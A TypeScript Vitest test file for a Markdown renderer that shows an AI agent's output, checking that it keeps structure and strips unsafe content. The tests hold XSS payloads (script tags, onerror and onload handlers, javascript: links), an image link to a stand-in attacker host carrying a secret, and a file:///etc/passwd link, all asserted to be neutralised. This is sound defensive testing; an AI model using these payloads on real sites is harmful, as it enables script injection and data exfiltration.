import { renderToString } from "preact-render-to-string";
import { describe, expect, it } from "vitest";
import { Markdown, safeLink } from "../src/ui/markdown.tsx";

const html = (text: string) => renderToString(<Markdown text={text} />);

describe("an agent's Markdown", () => {
  it("is shown with its structure", () => {
    const out = html("# A\n\n- one **b**\n- [x] two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n> q\n\n1. x\n\n```go\nfunc main() {}\n```");
    for (const part of ["<h3>A</h3>", "<strong>b</strong>", "<table>", 'class="to-right"', "<blockquote>", "<ol", "func main() {}"]) expect(out).toContain(part);
  });

  it.each([
    "<script>alert(1)</script>",
    "a <img src=x onerror=alert(1)> b",
    '<iframe src="https://evil.example"></iframe>',
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<style>body{display:none}</style>",
    "# <b onclick=alert(1)>h</b>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x> |",
  ])("is never read as HTML: %s", (text) => {
    expect(html(text)).not.toMatch(/<(script|img|iframe|svg|style|b|a)[\s>/]/i);
  });

  it("loads no picture from elsewhere", () => {
    expect(html("![leak](https://evil.example/?q=secret)")).not.toContain("<img");
    expect(html("![x](data:image/svg+xml;base64,AAAA)")).not.toContain("<img");
    expect(html("![x][r]\n\n[r]: https://evil.example/x.png")).not.toContain("<img");
    expect(html("![x](artifact:ab12cd34)")).toContain('src="/api/v1/artifacts/ab12cd34"');
  });

  it("follows only addresses of the web, in another tab", () => {
    for (const bad of ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "file:///etc/passwd", "vbscript:x", "//x", "/api/v1/stop", "#/s/x"]) {
      expect(safeLink(bad), bad).toBe("");
      expect(html(`[x](${bad})`), bad).not.toContain("<a ");
    }
    expect(html("[x](https://example.org/)")).toContain('href="https://example.org/" title="https://example.org/" target="_blank" rel="noopener noreferrer nofollow"');
  });

  it("lives with the worst nesting", () => {
    expect(html("> ".repeat(400) + "x").length).toBeGreaterThan(0);
    expect(html("*".repeat(5_000)).length).toBeGreaterThan(0);
    expect(html("[".repeat(2_000)).length).toBeGreaterThan(0);
  });

  it("shows entities as what they stand for, once", () => {
    expect(html("a &lt;b&gt; &amp;amp;")).toMatch(/a &lt;b(>|&gt;) &amp;amp;/);
  });
});
